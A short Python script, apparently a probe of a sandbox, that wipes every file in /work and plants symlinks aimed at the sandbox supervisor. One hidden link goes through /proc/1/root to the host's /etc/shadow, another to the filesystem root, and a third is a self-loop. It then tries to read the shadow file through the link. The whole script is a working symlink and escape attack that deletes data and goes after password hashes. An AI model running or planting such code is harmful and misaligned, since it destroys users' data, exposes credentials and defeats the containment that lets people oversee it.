# Puts links where the sandbox's keeper would write or look.
import os
import shutil

for name in os.listdir("/work"):
    os.remove(os.path.join("/work", name))
os.symlink("/", "/work/root")
os.symlink("/proc/1/root/etc/shadow", "/tmp/.words")
os.symlink("loop", "/work/loop")
try:
    open("/work/root/etc/shadow").read()
except OSError:
    print("refused")
